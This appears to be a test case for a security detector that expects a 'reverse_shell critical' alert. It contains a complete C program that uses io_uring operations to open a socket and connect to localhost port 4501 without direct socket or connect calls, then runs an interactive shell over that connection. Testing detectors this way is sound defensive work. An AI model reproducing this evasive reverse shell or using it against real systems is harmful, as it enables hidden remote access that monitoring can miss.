# about: the ring makes the socket and the connection; no call to socket or connect
# expect: reverse_shell critical
# needs: python3 gcc
proven 4501
cat >a.c <<'C'
#define _GNU_SOURCE
#include <linux/io_uring.h>
#include <sys/syscall.h>
#include <sys/mman.h>
#include <netinet/in.h>
#include <string.h>
#include <unistd.h>
#include <stdio.h>
static int ring; static struct io_uring_params p; static char *sq,*cq; static struct io_uring_sqe *sqes;
static int go(struct io_uring_sqe e){unsigned *tail=(void*)(sq+p.sq_off.tail),*mask=(void*)(sq+p.sq_off.ring_mask),*arr=(void*)(sq+p.sq_off.array);
 unsigned i=*tail&*mask; sqes[i]=e; arr[i]=i; __sync_synchronize(); (*tail)++; syscall(__NR_io_uring_enter,ring,1,1,IORING_ENTER_GETEVENTS,0,0);
 unsigned *head=(void*)(cq+p.cq_off.head),*cm=(void*)(cq+p.cq_off.ring_mask); struct io_uring_cqe *c=(void*)(cq+p.cq_off.cqes); int r=c[*head&*cm].res; (*head)++; return r;}
int main(){ring=syscall(__NR_io_uring_setup,8,&p);if(ring<0){perror("ring");return 1;}
 sq=mmap(0,p.sq_off.array+p.sq_entries*4,3,MAP_SHARED,ring,IORING_OFF_SQ_RING);cq=mmap(0,p.cq_off.cqes+p.cq_entries*16,3,MAP_SHARED,ring,IORING_OFF_CQ_RING);
 sqes=mmap(0,p.sq_entries*sizeof*sqes,3,MAP_SHARED,ring,IORING_OFF_SQES);
 struct io_uring_sqe e={0}; e.opcode=45; e.fd=AF_INET; e.off=SOCK_STREAM; int s=go(e);
 struct sockaddr_in a={AF_INET,htons(4501)}; a.sin_addr.s_addr=htonl(0x7f000001);
 memset(&e,0,sizeof e); e.opcode=IORING_OP_CONNECT; e.fd=s; e.addr=(unsigned long)&a; e.off=sizeof a; int r=go(e); printf("socket %d connect %d\n",s,r); fflush(stdout);
 if(s<0||r<0) return 1; for(int i=0;i<3;i++)dup2(s,i); execl("/bin/sh","sh","-i",NULL);}
C
gcc -w -o a a.c
timeout 6 ./a
answered
